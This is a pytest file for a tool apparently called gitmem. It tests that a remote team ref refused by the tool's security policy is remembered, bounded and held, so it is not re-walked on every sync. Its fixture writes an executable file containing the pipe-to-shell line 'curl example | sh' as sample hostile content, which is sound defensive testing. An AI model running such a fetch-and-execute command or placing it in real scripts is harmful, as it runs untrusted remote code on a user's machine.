"""A refused ref costs once, not every sync (round 20, #23; docs/reliability.md "Refused once"):
a team ref the policy refused, left on the remote, was walked whole again by every later sync
(2.5–3.0 s for one of 1,000,000 files against 0.4 s for a quiet sync). The refused tip is now
remembered beside the passed ones (`policy/checkedtrees`, `refused.json`): refused again at
once, in the same words and with the same exit code; a new tip or other rules check again.

Here the tree is refused for a cheap reason (an executable file, GM104): what is counted is
the policy's walks of it (`check_tree` calls), not its cost."""

from __future__ import annotations

import json
import stat
from collections.abc import Callable
from pathlib import Path

import pytest

from gitmem.errors import TOOL_HINTS
from gitmem.policy import checkedtrees
from gitmem.policy.treecheck import REFUSED_TOOL_HINT, check_tree
from gitmem.project.scopes import refused_hold
from gitmem.sync import gatecheck
from tests.support.teammates import Shared
from tests.support.world import World


def _hostile_tip(world: World, alice: Path, name: str) -> str:
    """A commit on alice's team tip adding an executable `team/<name>`, pushed to the remote's
    team ref (without gitmem: the policy never sees it on alice's side)."""
    tip = world.plumb(alice, "rev-parse", "refs/gitmem/team")
    blob = world.plumb(alice, "hash-object", "-w", "--stdin", data=b"curl example | sh\n")
    listing = world.plumb(alice, "ls-tree", tip) + "\n"
    team = next(line for line in listing.splitlines() if line.endswith("\tteam"))
    inner = world.plumb(alice, "ls-tree", team.split()[2]) + f"\n100755 blob {blob}\t{name}\n"
    sub = world.plumb(alice, "mktree", data=inner.encode())
    tree = world.plumb(alice, "mktree", data=listing.replace(team.split()[2], sub).encode())
    commit = world.plumb(alice, "commit-tree", tree, "-p", tip, "-m", "a script")
    world.git("push", "-qf", str(world.remote), f"{commit}:refs/gitmem/team", cwd=alice)
    return commit


def _counting(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """The commits the policy walks from now on."""
    walked: list[str] = []
    real: Callable[..., object] = check_tree

    def counted(repo: object, commit: str, *args: object, **kwargs: object) -> object:
        walked.append(commit)
        return real(repo, commit, *args, **kwargs)

    monkeypatch.setattr(gatecheck, "check_tree", counted)
    return walked


def _sync(world: World, bob: Path) -> tuple[int, str, list[object]]:
    run = world.gitmem("-C", str(bob), "sync", "--json")
    return run.code, run.err, json.loads(run.out)["errors"]


def test_a_refused_tip_is_refused_again_without_a_walk(
    synced: Shared, monkeypatch: pytest.MonkeyPatch
) -> None:
    world, alice, bob = synced.world, synced.alice, synced.bob
    hostile = _hostile_tip(world, alice, "run.sh")
    walked = _counting(monkeypatch)
    first = _sync(world, bob)
    assert first[0] != 0 and first[2], first
    assert "GM104" in json.dumps(first[2]), first
    assert walked.count(hostile) == 1
    second = _sync(world, bob)
    assert second == first  # told again each sync: the same line, hint and exit code
    assert walked.count(hostile) == 1  # ... without walking the tree again
    state = bob / ".git" / "gitmem"
    kept = state / "refused.json"
    assert stat.S_IMODE(kept.stat().st_mode) == 0o600
    assert hostile in kept.read_text()
    assert hostile not in (state / "checked.json").read_text()  # never kept as passed

    newer = _hostile_tip(world, alice, "run2.sh")  # a new tip is checked
    third = _sync(world, bob)
    assert third[0] == first[0] and walked.count(newer) == 1, third


def test_other_rules_check_a_refused_tip_again(
    synced: Shared, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A refusal is kept under the rules' stamp (`policy_stamp`, as a passed tree is): an
    upgrade or an edit of the policy checks the tip whole again; so does a lost cache."""
    world, alice, bob = synced.world, synced.alice, synced.bob
    hostile = _hostile_tip(world, alice, "run.sh")
    walked = _counting(monkeypatch)
    first = _sync(world, bob)
    assert walked.count(hostile) == 1
    monkeypatch.setattr(checkedtrees, "policy_stamp", lambda: "0123456789abcdef")
    assert _sync(world, bob) == first
    assert walked.count(hostile) == 2  # other rules: walked again
    assert _sync(world, bob) == first
    assert walked.count(hostile) == 2  # and kept under them
    (bob / ".git" / "gitmem" / "refused.json").write_bytes(b"\0" * 64)  # a crash's leftover
    assert _sync(world, bob) == first
    assert walked.count(hostile) == 3


def test_the_kept_refusals_are_bounded(tmp_path: Path) -> None:
    """A remote that pushes a new refused tip every sync: each is checked once, the oldest
    forgotten; a reason is cut at its bound."""
    (tmp_path / "gitmem").mkdir(mode=0o700)
    long = "x" * (checkedtrees.MAX_REASON * 4)
    for i in range(checkedtrees.MAX_REFUSED + 10):
        checkedtrees.save_refused(
            tmp_path, "origin/team", f"{i:040x}", ("untrusted", long, None, long)
        )
    kept = json.loads((tmp_path / "gitmem" / "refused.json").read_text())["tips"]
    assert len(kept) == checkedtrees.MAX_REFUSED
    assert checkedtrees.load_refused(tmp_path, "origin/team", f"{0:040x}") is None
    newest = checkedtrees.load_refused(tmp_path, "origin/team", f"{41:040x}")
    cut = "x" * checkedtrees.MAX_REASON
    assert newest == ("untrusted", cut, None, cut)
    assert checkedtrees.load_refused(tmp_path, "origin/other", f"{41:040x}") is None
    size = (tmp_path / "gitmem" / "refused.json").stat().st_size
    assert size < checkedtrees.MAX_REFUSED * (2 * checkedtrees.MAX_REASON + 200)


def test_a_refusal_told_again_keeps_its_tool_hint(
    synced: Shared, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Round 21: refused.json kept the hint but not the hint in the MCP tools' words, so the
    `sync` tool's second call told the agent the refusal without how to fix it."""
    world, alice, bob = synced.world, synced.alice, synced.bob
    hostile = _hostile_tip(world, alice, "run.sh")
    walked = _counting(monkeypatch)
    monkeypatch.setitem(world.env, TOOL_HINTS, "1")  # as the MCP server runs its child sync
    first = world.gitmem("-C", str(bob), "sync")
    hint = next(line for line in first.err.splitlines() if line.startswith("hint: "))
    assert hint == f"hint: {REFUSED_TOOL_HINT}", first.err
    second = world.gitmem("-C", str(bob), "sync")
    assert walked.count(hostile) == 1  # told from the kept refusal ...
    assert (second.code, second.err) == (first.code, first.err)  # ... in the same lines


def test_a_refused_tip_is_held_so_the_next_fetch_walks_nothing(synced: Shared) -> None:
    """Round 21: the refused fetch put the tracking ref back, so the remote's tip was
    reachable from no ref and every later `git fetch` walked its whole tree again (git's
    connectivity check of objects it holds: 0.3 s for 1,000,000 files, docs/reliability.md).
    It is now held on a ref of its own, which nothing merges or pushes; a tip that passes
    lets it go."""
    world, alice, bob = synced.world, synced.alice, synced.bob
    tracking = "refs/gitmem-remotes/origin/team"
    held = refused_hold(tracking)
    before = world.plumb(bob, "rev-parse", tracking)
    hostile = _hostile_tip(world, alice, "run.sh")
    assert _sync(world, bob)[0] != 0
    assert world.plumb(bob, "for-each-ref", "--format=%(refname)", "--contains", hostile) == held
    assert world.plumb(bob, "rev-parse", tracking) == before  # never taken
    assert _sync(world, bob)[0] != 0  # refused again: the same tip, still held
    assert world.plumb(bob, "rev-parse", held) == hostile

    world.git("push", "-qf", str(world.remote), f"{before}:refs/gitmem/team", cwd=alice)
    (world.scope_path(alice, "team") / "news.md").write_text("---\nname: news\n---\nnews\n")
    world.ok("-C", str(alice), "sync")  # an honest tip over the hostile one
    world.ok("-C", str(bob), "sync")
    assert world.plumb(bob, "for-each-ref", held) == ""  # let go
